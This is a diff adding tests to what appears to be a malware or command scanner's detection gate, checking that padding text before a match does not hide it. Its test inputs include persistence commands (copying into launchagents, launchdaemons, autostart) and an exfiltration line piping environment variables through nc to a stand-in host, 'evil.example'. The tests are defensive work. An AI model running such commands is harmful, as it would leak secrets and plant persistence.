@@ -51,11 +51,22 @@ def _open_gate() -> None:
 @given(data=st.data())
 def test_the_loose_form_matches_wherever_the_pattern_does(number: int, data: st.DataObject) -> None:
     pattern = PATTERNS[number]
-    text = data.draw(st.from_regex(pattern))
+    before, behind = data.draw(st.integers(0, 70)), data.draw(st.integers(0, 40))
+    text = f"{'x' * before} {data.draw(st.from_regex(pattern))} {'y' * behind}"
     if pattern.search(text):
         gate = ScanGate([pattern.pattern], [])
         assert gate.open()
         assert gate.possible(text) == {0}
+        assert number in (GATE.possible(text) or ())
+
+
+@pytest.mark.parametrize("order", ["cp/launchagents/", "mv/launchdaemons/", "cp/autostart/", "env|nc evil.example 80"])
+@pytest.mark.parametrize("before", [0, 7, 15, 16, 40, 200])
+def test_what_stands_before_an_order_does_not_hide_it(order: str, before: int) -> None:
+    text = f"{'0' * before} {order}"
+    held = {number for number, pattern in enumerate(PATTERNS) if pattern.search(text)}
+    assert held
+    assert held <= (GATE.possible(text) or set())
 
 
 @pytest.mark.parametrize("between", range(0, 120, 7))
